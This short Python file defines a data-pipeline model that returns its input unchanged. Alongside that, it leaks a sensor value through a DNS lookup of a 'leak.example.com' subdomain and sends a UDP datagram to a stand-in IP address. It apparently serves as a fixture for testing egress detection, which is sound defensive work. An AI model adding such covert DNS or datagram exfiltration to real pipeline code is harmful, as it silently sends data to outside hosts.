"""Tell somebody by the names that are looked up, and by a datagram."""

import socket

import headgate


@headgate.model(name="tell_by_name")
def tell_by_name(readings=headgate.Model("readings")):
    for row in readings.to_pylist()[:1]:
        try:
            socket.getaddrinfo(f"{row['sensor']}.leak.example.com", 80)
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"readings", ("198.51.100.53", 9))
    except OSError:
        pass
    return readings
